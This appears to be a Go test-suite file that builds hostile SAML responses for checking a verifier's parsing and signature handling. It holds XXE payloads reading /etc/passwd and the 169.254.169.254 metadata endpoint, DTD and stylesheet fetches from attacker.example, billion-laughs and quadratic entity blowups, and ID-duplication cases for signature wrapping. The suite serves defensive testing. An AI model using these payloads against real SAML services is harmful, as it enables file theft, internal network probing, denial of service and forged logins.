package hostile

import (
	"fmt"
	"strings"
)

// prologue is a case whose signed document gets text in front, and edits.
func prologue(name, before string, edits ...edit) Case {
	return Case{Name: name, Make: text(func(w World) string { return before + apply(w.assertionSigned(), edits) })}
}

// documentTypes lists what a DTD or a processing instruction can do. None of it
// is needed: SAML has neither (SAML core 1.1 forbids nothing, but every known
// attack of this family begins here).
func documentTypes() []Case {
	dtd := func(name, inside string, edits ...edit) Case {
		return prologue(name, "<!DOCTYPE samlp:Response ["+inside+"]>", edits...)
	}
	user := func(entity string) edit { return swap("Lovelace<", entity+"<") }
	var laughs, quadratic strings.Builder
	laughs.WriteString(`<!ENTITY l0 "lol">`)
	for i := range 20 {
		fmt.Fprintf(&laughs, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	fmt.Fprintf(&quadratic, `<!ENTITY q "%s">`, strings.Repeat("a", 50_000))
	return classed("DTD and processing instructions", Parse, []Case{
		prologue("an empty DTD", "<!DOCTYPE samlp:Response>"),
		prologue("a DTD to fetch", `<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/evil.dtd">`),
		prologue("a DTD with a public name", `<!DOCTYPE samlp:Response PUBLIC "-//X//Y" "http://attacker.example/evil.dtd">`),
		dtd("an entity of its own", `<!ENTITY e "root">`, user("&e;")),
		dtd("an entity that reads a file", `<!ENTITY e SYSTEM "file:///etc/passwd">`, user("&e;")),
		dtd("an entity that asks a web server", `<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">`, user("&e;")),
		dtd("a parameter entity that fetches", `<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;`),
		dtd("entities that grow tenfold twenty times", laughs.String(), user("&l20;")),
		dtd("a long entity used often", quadratic.String(), user(strings.Repeat("&q;", 5000))),
		dtd("an entity that refers to itself", `<!ENTITY a "&b;"><!ENTITY b "&a;">`, user("&a;")),
		dtd("an attribute that the DTD makes an ID", `<!ATTLIST AttributeStatement x ID #IMPLIED>`, swap("<AttributeStatement>", `<AttributeStatement x="_other">`)),
		dtd("an ID that the DTD gives by default", `<!ATTLIST Advice ID CDATA "_default">`),
		dtd("a namespace that the DTD declares", `<!ATTLIST Subject xmlns CDATA "urn:other">`),
		prologue("a DTD behind an XML declaration and a comment", "<?xml version=\"1.0\"?>\n<!-- x -->\n<!DOCTYPE samlp:Response []>"),
		changedSigned("a DTD inside the root", "", swap("</Issuer>", "</Issuer><!DOCTYPE x>")),
		changedSigned("an entity nobody declared", "", user("&nbsp;")),
		prologue("a style sheet", `<?xml-stylesheet href="http://attacker.example/x.xsl" type="text/xsl"?>`),
		changedSigned("a processing instruction in the Name ID", "", swap("ada.lovelace@", "ada<?x?>.lovelace@")),
		changedSigned("a processing instruction between elements", "", swap("<Subject>", "<?php echo 1 ?><Subject>")),
		changedSigned("a processing instruction behind the root", "", swap("</samlp:Response>", "</samlp:Response><?x y?>")),
		changedSigned("a second XML declaration", "", swap("</Issuer>", `</Issuer><?xml version="1.0"?>`)),
		prologue("an XML declaration behind a blank line", "\n<?xml version=\"1.0\"?>"),
	})
}

// wellFormedness lists documents that are not XML, each by one slip which some
// parser forgives.
func wellFormedness() []Case {
	none := func(name, doc string) Case { return made(name, func(World) string { return doc }) }
	return classed("not well-formed", Parse, []Case{
		none("nothing in it", ""),
		none("blanks alone", " \r\n\t "),
		none("a byte order mark alone", "\ufeff"),
		none("a comment alone", "<!-- Response -->"),
		none("words instead of XML", "AADSTS50011: The reply URL specified in the request does not match."),
		none("HTML", "<!doctype html><html><body>Sign in to your account<br></body></html>"),
		none("JSON", `{"Response":{"Assertion":{"NameID":"root"}}}`),
		made("its last half missing", func(w World) string { d := w.assertionSigned(); return d[:len(d)/2] }),
		changedSigned("its end tag missing", "", swap("</samlp:Response>", "")),
		changedSigned("its last byte missing", "", swap("</samlp:Response>", "</samlp:Response")),
		changedSigned("crossing tags", "", swap("</NameID><SubjectConfirmation ", "<SubjectConfirmation "), swap("</SubjectConfirmation>", "</NameID></SubjectConfirmation>")),
		made("two roots", func(w World) string { return w.responseSigned() + w.response(w.forged("other")) }),
		made("text before the root", func(w World) string { return "x" + w.assertionSigned() }),
		made("text behind the root", func(w World) string { return w.assertionSigned() + "x" }),
		made("an end tag behind the root", func(w World) string { return w.assertionSigned() + "</samlp:Response>" }),
		made("a zero byte behind the root", func(w World) string { return w.assertionSigned() + "\x00" }),
		changedSigned("an attribute without quotes", "", swap(`Version="2.0"`, `Version=2.0`)),
		changedSigned("an attribute without a value", "", swap(`Version="2.0"`, `Version`)),
		changedSigned("no blank between attributes", "", swap(`Version="2.0" IssueInstant`, `Version="2.0"IssueInstant`)),
		changedSigned("a less-than sign in an attribute", "", swap(`SessionIndex="`, `SessionIndex="<`)),
		changedSigned("a bare ampersand", "", swap("Lovelace<", "Love & lace<")),
		changedSigned("the same attribute twice", "", swap(`<samlp:Response `, `<samlp:Response Version="2.0" `)),
		changedSigned("a blank before a tag's name", "", swap("<Subject>", "< Subject>")),
		changedSigned("an attribute in an end tag", "", swap("</Subject>", `</Subject x="y">`)),
		changedSigned("a comment with two hyphens inside", "", swap("<Subject>", "<!-- a -- b --><Subject>")),
		changedSigned("a comment that does not end", "", swap("<Subject>", "<!-- <Subject>")),
		changedSigned("a CDATA section that does not end", "", swap(">Ada<", "><![CDATA[Ada<")),
		changedSigned("the end of a CDATA section in text", "", swap("Lovelace<", "Love]]>lace<")),
		changedSigned("a CDATA section in lower case", "", swap(">Ada<", "><![cdata[Ada]]><")),
		changedSigned("a CDATA section outside the root", "", swap("</samlp:Response>", "</samlp:Response><![CDATA[x]]>")),
		changedSigned("a name that begins with a digit", "", swap("<Subject>", "<1/><Subject>")),
		changedSigned("an empty tag", "", swap("<Subject>", "<><Subject>")),
		prologue("XML 1.1", `<?xml version="1.1"?>`),
		prologue("XML 2.0", `<?xml version="2.0"?>`),
		prologue("an XML declaration without a version", `<?xml encoding="UTF-8"?>`),
		prologue("an XML declaration in capitals", `<?XML version="1.0"?>`),
	})
}

// namespaces lists names whose meaning two parsers may take differently.
func namespaces() []Case {
	return classed("namespaces", Parse, []Case{
		changedSigned("a prefix nobody declared", "", swap("<Subject>", "<x:y/><Subject>")),
		changedSigned("an attribute's prefix nobody declared", "", swap(`SessionIndex=`, `x:y="" SessionIndex=`)),
		changedSigned("a prefix bound to nothing", "", swap("<Subject>", `<Subject xmlns:x="">`)),
		changedSigned("a relative namespace", "", swap("<Subject>", `<Subject xmlns:x="relative">`)),
		changedSigned("a relative default namespace", "", swap("<AuthnContext>", `<AuthnContext xmlns="1">`)),
		changedSigned("the prefix xmlns declared", "", swap("<Subject>", `<Subject xmlns:xmlns="urn:x">`)),
		changedSigned("the prefix xml bound elsewhere", "", swap("<Subject>", `<Subject xmlns:xml="urn:x">`)),
		changedSigned("another prefix bound to xml's namespace", "", swap("<Subject>", `<Subject xmlns:x="http://www.w3.org/XML/1998/namespace">`)),
		changedSigned("a prefix bound to xmlns's namespace", "", swap("<Subject>", `<Subject xmlns:x="http://www.w3.org/2000/xmlns/">`)),
		changedSigned("the same prefix declared twice", "", swap("<samlp:Response ", `<samlp:Response xmlns:samlp="`+nsProtocol+`" `)),
		changedSigned("one attribute by two prefixes", "", swap("<Subject>", `<Subject xmlns:a="urn:x" xmlns:b="urn:x" a:n="1" b:n="2">`)),
		changedSigned("a name with two colons", "", swap("<Subject>", "<samlp:a:b/><Subject>")),
		changedSigned("a name that ends in a colon", "", swap("<Subject>", "<samlp:/><Subject>")),
		changedSigned("a name that begins with a colon", "", swap("<Subject>", "<:x/><Subject>")),
		changedSigned("an element of the prefix xmlns", "", swap("<Subject>", "<xmlns:x/><Subject>")),
		{Name: "its root in no namespace", Check: Structure, Make: text(func(w World) string {
			return w.response(w.signedAssertion(), swap(` xmlns:samlp="`+nsProtocol+`"`, ` xmlns:samlp="`+nsProtocol+`x"`))
		})},
		{Name: "SAML 1.1's namespace", Check: Structure, Make: text(func(w World) string {
			return strings.ReplaceAll(w.assertionSigned(), nsProtocol, "urn:oasis:names:tc:SAML:1.0:protocol")
		})},
		{Name: "its assertion in no namespace", Check: Structure, Make: text(func(w World) string {
			return w.response(w.sign(w.assertion(swap(` xmlns="`+nsAssertion+`"`, "")), w.AssertionID, signing{}))
		})},
		{Name: "its assertion in an attacker's namespace", Check: Structure, Make: text(func(w World) string {
			return w.response(w.sign(w.assertion(swap(nsAssertion, "urn:attacker")), w.AssertionID, signing{}))
		})},
	})
}

// identifiers lists documents in which an ID does not name one element.
func identifiers() []Case {
	twice := func(name string, mark func(w World) string) Case {
		return made(name, func(w World) string {
			return swap("<AttributeStatement>", "<AttributeStatement "+mark(w)+">")(w.assertionSigned())
		})
	}
	return classed("identifiers", "", []Case{
		twice("the assertion's ID on another element", func(w World) string { return `ID="` + w.AssertionID + `"` }),
		twice("the assertion's ID on another element as Id", func(w World) string { return `Id="` + w.AssertionID + `"` }),
		twice("the assertion's ID on another element as id", func(w World) string { return `id="` + w.AssertionID + `"` }),
		twice("the assertion's ID on another element as xml:id", func(w World) string { return `xml:id="` + w.AssertionID + `"` }),
		twice("the assertion's ID on another element as AssertionID", func(w World) string { return `AssertionID="` + w.AssertionID + `"` }),
		twice("the response's ID on another element", func(w World) string { return `ID="` + w.ResponseID + `"` }),
		{Name: "one ID for response and assertion", Check: Parse, Make: text(func(w World) string {
			signed := w.signedAssertion()
			w.ResponseID = w.AssertionID
			return w.response(signed)
		})},
		{Name: "its assertion's ID in a namespace", Make: text(func(w World) string {
			doc := w.assertion()
			signed := w.sign(doc, w.AssertionID, signing{})
			return w.response(swap(` ID="`, ` xmlns:x="urn:x" x:ID="`)(signed))
		})},
		{Name: "its assertion's ID spelled Id", Make: text(func(w World) string {
			return w.response(w.sign(w.assertion(swap(` ID="`, ` Id="`)), w.AssertionID, signing{}))
		})},
		{Name: "an assertion of two IDs", Make: text(func(w World) string {
			return w.response(w.sign(w.assertion(swap(` ID="`, ` Id="_two" ID="`)), w.AssertionID, signing{}))
		})},
		{Name: "an empty ID, which the Reference names", Make: text(func(w World) string {
			w.AssertionID = "_x"
			doc := swap(`ID="_x"`, `ID=""`)(w.assertion())
			return w.response(w.sign(doc, "", signing{}))
		})},
	})
}
